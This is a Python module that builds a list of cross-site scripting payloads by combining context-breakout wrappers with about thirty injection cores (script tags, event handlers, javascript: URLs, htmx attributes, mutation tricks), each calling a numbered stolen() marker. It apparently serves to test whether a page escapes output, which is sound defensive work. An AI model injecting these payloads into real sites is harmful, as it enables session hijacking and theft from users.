"""Words that would run where a page forgets to escape them: each calls `stolen(n)`, with a number of its own."""

from itertools import count

_WRAPS = (  # ways out of wherever the words stand
    "{}", "'>{}", '">{}', "</p>{}", "</textarea>{}", "</title>{}", "</script>{}", "--> {}", "]]>{}", "`{}", "</option></select>{}", "</details>{}",
    "{{{{{}}}}}", "<![CDATA[{}]]>", "\u202e{}\u202c", "\ufeff{}", "{}\u0000"[:-1],
)  # fmt: skip
_CORES = (
    "<script>stolen({n})</script>", "<SCRIPT SRC=//127.0.0.1/x.js?{n}></SCRIPT>", "<img src=x onerror=stolen({n})>", "<svg onload=stolen({n})>",
    "<svg><script>stolen({n})</script></svg>", "<body onload=stolen({n})>", "<iframe srcdoc='<script>parent.stolen({n})</script>'></iframe>",
    "<iframe src=javascript:parent.stolen({n})></iframe>", "<a href=javascript:stolen({n}) autofocus tabindex=0 onfocus=stolen({n})>x</a>",
    "<input autofocus onfocus=stolen({n})>", "<details open ontoggle=stolen({n})>x</details>", "<video><source onerror=stolen({n})></video>",
    "<audio src=x onerror=stolen({n})>", "<math><mtext><img src=x onerror=stolen({n})></mtext></math>", "<object data=javascript:stolen({n})></object>",
    "<embed src=javascript:stolen({n})>", "<link rel=stylesheet href=//127.0.0.1/x.css?{n}>", "<style>@import '//127.0.0.1/{n}.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:stolen({n})'>", "<base href=//127.0.0.1/{n}/>", "<form action=//127.0.0.1/{n}><button autofocus>x</button></form>",
    "<marquee onstart=stolen({n})>x</marquee>", "<div hx-get=/console/ hx-trigger=load hx-on::load=stolen({n})></div>",
    "<div hx-on:htmx:load='stolen({n})' data-hx-on:load='stolen({n})'></div>", "<template><script>stolen({n})</script></template>",
    "<select autofocus onfocus=stolen({n})>", "<x onclick=stolen({n}) style=position:fixed;inset:0>x</x>", "<img srcset='//127.0.0.1/{n}.png 1x'>",
    "<svg><animate onbegin=stolen({n}) attributeName=x dur=1s>", "<noscript><p title='</noscript><img src=x onerror=stolen({n})>'>",
)  # fmt: skip


def payloads(how_many: int) -> list[str]:
    """So many different ones; every core, in every way out that there is room for."""
    numbers = count(1)
    made = [wrap.format(core.format(n=next(numbers))) for wrap in _WRAPS for core in _CORES]
    assert len(set(made)) == len(made) >= how_many
    return made[:how_many]
